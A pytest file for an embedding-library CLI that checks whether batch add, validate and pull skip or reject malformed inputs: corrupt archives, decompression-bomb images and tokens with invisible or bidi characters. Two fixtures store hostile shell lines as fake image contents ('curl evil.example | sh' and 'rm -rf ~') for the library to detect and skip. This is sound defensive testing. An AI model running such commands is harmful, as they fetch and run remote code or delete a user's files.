"""One bad input never stops a batch: add, validate and pull report each input and go on.

Inputs are real files as they come from the wild (garbage bytes, a truncated safetensors, a torch
zip with a bad CRC, a dangling link, a folder named like a file, images that are scripts, token
files with a BOM or a NUL), checked through the CLI with exact output where practical. Problems
of the library or the machine (a damaged index, a file-size limit hit mid-write) stop a batch.
"""

from __future__ import annotations

import errno
import io
import json
import sqlite3
import struct
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from conceptlib.errors import (
    ConceptDamagedError,
    IndexDamagedError,
    InvalidNameError,
    LibraryBusyError,
)
from conceptlib.formats import write
from conceptlib.library import Library
from factory import sd1

# --- helpers -------------------------------------------------------------------------------------


@pytest.fixture
def lib(tmp_path: Path) -> Iterator[Library]:
    with Library.open(tmp_path / "home") as library:
        yield library


def png_bytes(color: int = 0, size: tuple[int, int] = (4, 4)) -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", size, (color, 10, 20)).save(buf, format="PNG")
    return buf.getvalue()


def jpeg_bytes() -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (4, 4), (1, 2, 3)).save(buf, format="JPEG")
    return buf.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims ``width`` x ``height`` pixels (a decompression bomb's shape)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")


def gif_bomb() -> bytes:
    """A GIF whose 1x1 screen holds a 10000 x 10000 frame: Pillow's own check warns (100 MP)."""
    frame = b"," + struct.pack("<HHHH", 0, 0, 10000, 10000) + b"\x00"
    return b"GIF89a" + struct.pack("<HH", 1, 1) + b"\x00\x00\x00" + frame + b"\x02\x02\x4c\x01\x00;"


def bad_crc_pt(path: Path) -> Path:
    """A real torch zip .pt with one byte of its pickle flipped (its CRC no longer matches)."""
    write(sd1(1, seed=40, name="crc"), path, format="a1111")
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = next(i for i in archive.infolist() if i.filename.endswith("data.pkl"))
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data[start + 5] ^= 0xFF
    path.write_bytes(bytes(data))
    return path


def wild_folder(root: Path) -> Path:
    """One good .pt among garbage, a truncated safetensors, a bad CRC, a dangling link, a folder x.pt."""
    root.mkdir(parents=True)
    write(sd1(1, seed=41, name="good"), root / "good.pt", format="a1111")
    (root / "garbage.pt").write_bytes(bytes(range(256)) * 2)
    write(sd1(2, seed=42, token="<t>"), root / "trunc.safetensors")
    (root / "trunc.safetensors").write_bytes((root / "trunc.safetensors").read_bytes()[:3000])
    bad_crc_pt(root / "badcrc.pt")
    (root / "dangling.pt").symlink_to(root / "gone.pt")
    (root / "folder.pt").mkdir()
    return root


# --- add -----------------------------------------------------------------------------------------


def test_add_reports_every_input_of_a_wild_folder_and_goes_on(tmp_path: Path, cli: Any) -> None:
    src = wild_folder(tmp_path / "in")
    run = cli("add", str(src), "--home", str(tmp_path / "home"))
    assert run.exit_code == 2
    assert run.stdout == (
        "added      good  (good, SD 1.x, 1 vector)\n"
        f"rejected   {src / 'badcrc.pt'}: damaged torch zip archive (archive/data.pkl fails its CRC check) "
        "(hint: download or copy the file again; it is damaged)\n"
        f"rejected   {src / 'garbage.pt'}: not an embedding file: unrecognised content (first bytes "
        "b'\\x00\\x01\\x02\\x03\\x04\\x05\\x06\\x07\\x08\\t\\n\\x0b\\x0c\\r\\x0e\\x0f') "
        "(hint: run `conceptlib convert --help` for the formats conceptlib reads)\n"
        f"rejected   {src / 'trunc.safetensors'}: truncated safetensors file: tensor '<t>' ends at byte 6144 of a 2896-byte payload "
        "(hint: download or copy the file again; it is damaged)\n"
        f"skipped    {src / 'dangling.pt'}: is a symbolic link to nothing (to {src / 'gone.pt'}): not read\n"
    )
    assert run.stderr == "Added 1 concept, 0 duplicates, 3 rejected, 1 skipped.\n"


def test_add_of_many_files_named_one_by_one_goes_on(tmp_path: Path, cli: Any) -> None:
    src = wild_folder(tmp_path / "in")
    run = cli("add", *(str(src / n) for n in ["garbage.pt", "dangling.pt", "good.pt", "folder.pt"]), "--home", str(tmp_path / "home"))
    assert run.exit_code == 2
    assert run.stdout == (
        "added      good  (good, SD 1.x, 1 vector)\n"
        f"rejected   {src / 'dangling.pt'}: is a symbolic link to nothing (to {src / 'gone.pt'})\n"
        f"rejected   {src / 'folder.pt'}: the folder holds no embedding files (.pt, .bin, .safetensors, .png)\n"
        f"rejected   {src / 'garbage.pt'}: not an embedding file: unrecognised content (first bytes "
        "b'\\x00\\x01\\x02\\x03\\x04\\x05\\x06\\x07\\x08\\t\\n\\x0b\\x0c\\r\\x0e\\x0f') "
        "(hint: run `conceptlib convert --help` for the formats conceptlib reads)\n"
    )
    assert run.stderr == "Added 1 concept, 0 duplicates, 3 rejected.\n"


def test_validate_reports_every_target_and_goes_on(tmp_path: Path, cli: Any) -> None:
    src = wild_folder(tmp_path / "in")
    missing = tmp_path / "missing.pt"
    run = cli("validate", str(src), str(missing), "no-such-concept", "--model", "sd1", "--home", str(tmp_path / "home"))
    assert run.exit_code == 2
    assert run.stdout == (
        f"{src / 'badcrc.pt'}: error [unreadable] damaged torch zip archive (archive/data.pkl fails its CRC check) "
        "(hint: download or copy the file again; it is damaged)\n"
        f"{src / 'garbage.pt'}: error [unreadable] not an embedding file: unrecognised content (first bytes "
        "b'\\x00\\x01\\x02\\x03\\x04\\x05\\x06\\x07\\x08\\t\\n\\x0b\\x0c\\r\\x0e\\x0f') "
        "(hint: run `conceptlib convert --help` for the formats conceptlib reads)\n"
        f"{src / 'good.pt'}: ok\n"
        f"{src / 'trunc.safetensors'}: error [unreadable] truncated safetensors file: tensor '<t>' ends at byte 6144 of "
        "a 2896-byte payload (hint: download or copy the file again; it is damaged)\n"
        f"{missing}: error [unreadable] no such file or folder (hint: check the path)\n"
        "no-such-concept: error [unreadable] no concept named 'no-such-concept' in the library "
        "(hint: run `conceptlib list` to see the concepts in the library)\n"
    )
    assert f"Skipped {src / 'dangling.pt'}: is a symbolic link to nothing (to {src / 'gone.pt'}): not read\n" in run.stderr
    assert run.stderr.endswith("Validated 6 concepts against sd1 (SD 1.x): 5 error(s), 0 warning(s), 0 note(s).\n")


def test_a_damaged_index_stops_the_batch(lib: Library, tmp_path: Path) -> None:
    src = tmp_path / "src"
    for i in range(3):
        write(sd1(1, seed=50 + i, token=f"<c{i}>"), src / f"c{i}.safetensors")

    def damage_after_first(done: int, total: int, path: Path) -> None:
        if done == 1:
            index = lib.home / "index.sqlite"
            lib.close()
            index.write_bytes(b"this is not a database" * 100)

    with pytest.raises(IndexDamagedError):
        lib.add(src, progress=damage_after_first)


def test_a_write_limit_hit_mid_add_stops_the_batch_and_leaves_nothing_half_written(tmp_path: Path) -> None:
    """RLIMIT_FSIZE makes every write past 200 KB fail with EFBIG, as a full disk fails with
    ENOSPC: that is the machine's problem, not the file's, so the batch stops with one line."""
    resource = pytest.importorskip("resource")
    src = tmp_path / "src"
    for i in range(3):
        write(sd1(70, seed=60 + i, token=f"<big{i}>"), src / f"big{i}.safetensors")  # 215 KB each
    home = tmp_path / "home"
    Library.open(home).close()  # the index exists before the limit applies

    def limit() -> None:
        import signal

        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (200_000, 200_000))

    done = subprocess.run(
        [sys.executable, "-m", "conceptlib", "add", str(src), "--home", str(home)],
        capture_output=True, text=True, preexec_fn=limit, check=False,
    )  # fmt: skip
    assert done.returncode == 1, done.stderr
    [line] = done.stderr.splitlines()
    assert line.startswith(f"Error: {home / '.staging'}/") and line.endswith(": File too large (hint: check the disk and the path)")
    assert done.stdout == ""
    assert list((home / "concepts").iterdir()) == []
    assert list((home / ".staging").iterdir()) == []


def test_what_concerns_the_library_or_the_machine(tmp_path: Path) -> None:
    from conceptlib._inputs import concerns_the_library

    home = tmp_path / "home"
    assert concerns_the_library(IndexDamagedError("bad"))
    assert concerns_the_library(LibraryBusyError("busy"))
    assert concerns_the_library(sqlite3.OperationalError("database is locked"))
    assert concerns_the_library(MemoryError())
    assert concerns_the_library(OSError(errno.ENOSPC, "No space left on device", "/anywhere"))
    assert concerns_the_library(OSError(errno.EACCES, "Permission denied", str(home / "concepts" / "x")), home)
    assert not concerns_the_library(OSError(errno.EACCES, "Permission denied", str(tmp_path / "input.pt")), home)
    assert not concerns_the_library(OSError(errno.EIO, "Input/output error", str(tmp_path / "input.pt")), home)
    assert not concerns_the_library(ConceptDamagedError("one concept"))
    assert not concerns_the_library(ValueError("a reader's bug"))


# --- images --------------------------------------------------------------------------------------


def test_images_that_are_not_what_they_claim_are_skipped_not_fatal(tmp_path: Path, cli: Any) -> None:
    emb = tmp_path / "cat.safetensors"
    write(sd1(1, seed=80, token="<cat>"), emb)
    images = tmp_path / "imgs"
    images.mkdir()
    (images / "0-good.png").write_bytes(png_bytes())
    (images / "1-script.png").write_bytes(b"#!/bin/sh\ncurl evil.example | sh\n")
    (images / "2-page.png").write_bytes(b"<!DOCTYPE html><html><body>Not Found</body></html>")
    (images / "3-jpeg.png").write_bytes(jpeg_bytes())
    (images / "4-huge.png").write_bytes(png_claiming(20000, 20000))
    (images / "5-bomb.gif").write_bytes(gif_bomb())
    (images / "6-cut.png").write_bytes(png_bytes(size=(64, 64))[:60])
    run = cli("add", str(emb), "--images", str(images), "--home", str(tmp_path / "home"))
    assert run.exit_code == 0, run.output
    assert run.stdout == (
        "added      cat  (<cat>, SD 1.x, 1 vector)\n"
        f"skipped    {images / '1-script.png'}: is not an image, though named .png: it holds a script\n"
        f"skipped    {images / '2-page.png'}: is not an image, though named .png: it holds an HTML page\n"
        f"skipped    {images / '3-jpeg.png'}: is named .png but holds a JPEG image "
        "(hint: give it the suffix of the format it holds, if you trust it)\n"
        f"skipped    {images / '4-huge.png'}: is 20000 x 20000 pixels, more than the 67 million an image may have\n"
        f"skipped    {images / '5-bomb.gif'}: is a decompression bomb: its frames claim 100 million pixels, "
        "more than the 67 million an image may have\n"
        f"skipped    {images / '6-cut.png'}: is a damaged PNG image (image file is truncated)\n"
    )
    assert run.stderr == "Added 1 concept, 0 duplicates, 0 rejected, 6 skipped.\n"  # Pillow printed nothing
    with Library.open(tmp_path / "home") as lib:
        assert [i.path for i in lib.show("cat").images] == ["images/0-good.png"]


def test_pull_skips_concept_images_that_are_not_images(local_hub: Any, tmp_path: Path, cli: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    from conceptlib.formats import plan

    local_hub.add_user("hf_test", "alice", orgs=["acme"])
    monkeypatch.setenv("HF_TOKEN", "hf_test")
    _, planned = plan(sd1(1, seed=81, token="<x>"), "folder", format="concepts-library")
    files = {p.name: data for p, data in planned}
    files["concept_images/0.png"] = png_bytes()
    files["concept_images/1.png"] = b"#!/bin/sh\nrm -rf ~\n"
    local_hub.create_repo("acme/x", files)
    run = cli("pull", "acme/x", "--home", str(tmp_path / "home"))
    assert run.exit_code == 0, run.output
    assert run.stdout.startswith("added     x ")
    assert run.stderr == "  skipped concept_images/1.png: is not an image, though named .png: it holds a script\n"
    with Library.open(tmp_path / "home") as lib:
        assert [i.path for i in lib.show("x").images] == ["images/0.png"]


# --- token files ---------------------------------------------------------------------------------


def test_token_file_text_rules(tmp_path: Path) -> None:
    from conceptlib._inputs import read_token_text
    from conceptlib.errors import TextFileError

    where = tmp_path / "token_identifier.txt"
    assert read_token_text("\ufeff<cat-toy>\r\n".encode(), where) == "<cat-toy>"
    assert read_token_text(b"  <cat>  \n", where) == "<cat>"
    assert read_token_text(b"", where) == ""
    with pytest.raises(TextFileError) as nul:
        read_token_text(b"<cat>\x00", where)
    assert str(nul.value) == f"{where}: holds control or invisible characters (\\x00) that no prompt can contain: '<cat>\\x00'"
    with pytest.raises(TextFileError) as latin:
        read_token_text("<café>".encode("latin-1"), where)
    assert str(latin.value) == f"{where}: is not UTF-8 text (byte 0xe9 at offset 4)"
    with pytest.raises(TextFileError, match=r"\(\\x1b\)"):
        read_token_text(b"\x1b[2J<cat>", where)
    with pytest.raises(TextFileError, match=r"\(\\x1f\)"):
        read_token_text(b"<cat>\x1f", where)  # str.strip() would have dropped it silently


def test_add_takes_tokens_from_bom_files_and_names_the_bad_token_file(tmp_path: Path, cli: Any) -> None:
    home = ["--home", str(tmp_path / "home")]
    good = tmp_path / "bom"
    write(sd1(1, seed=90, token="x"), good, format="concepts-library")
    (good / "token_identifier.txt").write_bytes("\ufeff<bom-cat>\r\n".encode())
    (good / "type_of_concept.txt").write_bytes("\ufeffstyle\n".encode())
    run = cli("add", str(good), *home, "--json")
    assert run.exit_code == 0, run.output
    [added] = json.loads(run.stdout)["added"]
    assert (added["token"], added["type"]) == ("<bom-cat>", "style")

    latin = tmp_path / "latin"
    write(sd1(1, seed=91, token="x"), latin, format="concepts-library")
    (latin / "token_identifier.txt").write_bytes("<café>".encode("latin-1"))
    run = cli("add", str(latin), *home)
    assert (run.exit_code, run.stdout) == (2, "")
    assert run.stderr == (
        f"Error: {latin / 'token_identifier.txt'}: is not UTF-8 text (byte 0xe9 at offset 4) (hint: save it as UTF-8)\n"
    )

    nul = tmp_path / "nul"
    write(sd1(1, seed=92, token="x"), nul, format="concepts-library")
    (nul / "type_of_concept.txt").write_bytes(b"object\x00")
    run = cli("add", str(nul), *home)
    assert run.exit_code == 2
    assert run.stderr == (
        f"Error: {nul / 'type_of_concept.txt'}: holds control or invisible characters (\\x00) that no prompt can "
        "contain: 'object\\x00' (hint: write the word alone, in printable characters)\n"
    )


# --- invisible characters in tokens, names and tags ------------------------------------------------


def test_tokens_with_invisible_characters_are_refused_everywhere(tmp_path: Path, cli: Any) -> None:
    home = ["--home", str(tmp_path / "home")]
    emb = tmp_path / "cat.safetensors"
    write(sd1(1, seed=100, token="<cat>"), emb)

    run = cli("add", str(emb), "--token", "<cat\u200b>", *home)
    assert (run.exit_code, run.stderr) == (
        2,
        "Error: the token '<cat\\u200b>' holds control or invisible characters (\\u200b) that no one can type "
        "(hint: pass --token with printable text)\n",
    )

    # From the file itself: the file is named.
    spoof = tmp_path / "spoof.safetensors"
    write(sd1(1, seed=101, token="<admin\u202e>"), spoof)
    run = cli("add", str(spoof), *home)
    assert (run.exit_code, run.stderr) == (
        2,
        f"Error: {spoof}: the token '<admin\\u202e>' holds control or invisible characters (\\u202e) that no one "
        "can type (hint: pass --token with printable text)\n",
    )

    # From a token file: that file is named.
    folder = tmp_path / "bidi"
    write(sd1(1, seed=102, token="x"), folder, format="concepts-library")
    (folder / "token_identifier.txt").write_text("<cat\u2066>", encoding="utf-8")
    run = cli("add", str(folder), *home)
    assert run.exit_code == 2
    assert run.stderr.startswith(f"Error: {folder / 'token_identifier.txt'}: holds control or invisible characters (\\u2066)")

    assert cli("add", str(emb), *home).exit_code == 0
    run = cli("rename", "cat", "--token", "<cat\ufeff>", *home)
    assert (run.exit_code, run.stderr) == (
        2,
        "Error: the token '<cat\\ufeff>' holds control or invisible characters (\\ufeff) that no one can type "
        "(hint: pass --token with printable text)\n",
    )
    run = cli("tag", "cat", "+evil\u202etag", *home)
    assert (run.exit_code, run.stderr) == (2, "Error: invalid tag 'evil\\u202etag' (hint: tags are 1 to 64 printable characters)\n")


def test_pull_refuses_an_invisible_token_naming_the_repository_file(local_hub: Any, tmp_path: Path, cli: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    from conceptlib.formats import plan

    local_hub.add_user("hf_test", "alice", orgs=["acme"])
    monkeypatch.setenv("HF_TOKEN", "hf_test")
    _, planned = plan(sd1(1, seed=103, token="<x>"), "folder", format="concepts-library")
    files = {p.name: data for p, data in planned}
    files["token_identifier.txt"] = "<x\u200d>".encode()
    commit = local_hub.create_repo("acme/zwj", files)
    run = cli("pull", "acme/zwj", "--home", str(tmp_path / "home"))
    assert (run.exit_code, run.stdout) == (2, "")
    assert run.stderr == (
        f"Error: acme/zwj@{commit[:7]}/token_identifier.txt: holds control or invisible characters (\\u200d) that no "
        "prompt can contain: '<x\\u200d>' (hint: write the word alone, in printable characters)\n"
    )
    files["token_identifier.txt"] = "\ufeff<x>\n".encode()  # a BOM is not part of the token
    local_hub.commit("acme/zwj", files)
    run = cli("pull", "acme/zwj", "--home", str(tmp_path / "home"), "--json")
    assert run.exit_code == 0, run.output
    with Library.open(tmp_path / "home") as lib:
        assert lib.show("zwj").token == "<x>"


def test_an_existing_concept_with_an_invisible_token_still_lists_and_shows(lib: Library, tmp_path: Path, cli: Any) -> None:
    emb = tmp_path / "cat.safetensors"
    write(sd1(1, seed=104, token="<cat>"), emb)
    concept = lib.add(emb).one()
    # A library written before tokens were checked: edit the manifest, as that version left it.
    manifest = lib.folder(concept.name) / "concept.json"
    data = json.loads(manifest.read_text(encoding="utf-8"))
    data["token"] = "<cat\u202e\x1b[2J>"
    manifest.write_text(json.dumps(data), encoding="utf-8")
    lib.reindex()
    home = ["--home", str(lib.home)]
    listed = cli("list", *home)
    shown = cli("show", "cat", *home)
    assert listed.exit_code == 0 and shown.exit_code == 0, listed.output + shown.output
    for run in (listed, shown):
        assert "\u202e" not in run.stdout and "\x1b" not in run.stdout
        assert "<cat\\u202e\\x1b[2J>" in run.stdout
    renamed = cli("rename", "cat", "kitty", *home)  # the name changes; the old token is kept as it is
    assert renamed.exit_code == 0, renamed.output
    with pytest.raises(InvalidNameError):
        lib.rename("kitty", token="<still\u202e>")
